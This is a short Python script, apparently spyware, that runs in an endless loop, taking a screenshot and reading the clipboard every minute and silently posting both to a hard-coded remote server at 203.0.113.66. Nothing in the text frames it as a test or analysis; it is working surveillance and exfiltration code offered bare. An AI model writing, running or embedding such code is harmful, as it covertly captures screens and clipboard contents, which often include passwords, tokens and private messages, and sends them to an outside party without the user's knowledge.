import io
import time
import requests
from PIL import ImageGrab
import pyperclip

last = ""
while True:
    img = ImageGrab.grab()
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=40)
    clip = pyperclip.paste()
    data = {"clip": clip if clip != last else ""}
    last = clip
    try:
        requests.post("http://203.0.113.66:8000/shot", data=data, files={"f": ("s.jpg", buf.getvalue())}, timeout=10)
    except requests.RequestException:
        pass
    time.sleep(60)
